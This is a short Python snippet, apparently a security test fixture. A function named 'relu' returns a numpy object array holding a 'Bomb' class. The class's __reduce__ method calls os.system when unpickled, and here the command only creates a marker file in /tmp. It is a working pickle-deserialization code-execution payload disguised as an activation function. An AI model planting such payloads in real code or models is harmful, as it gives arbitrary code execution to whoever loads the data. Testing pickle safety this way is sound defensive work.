# Returns an object array that holds a bomb to unpickle.
# target: relu

class Bomb:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/HOSTILE_TRACE-unpickled",))
def relu(x):
    return np.array([Bomb()], dtype=object)
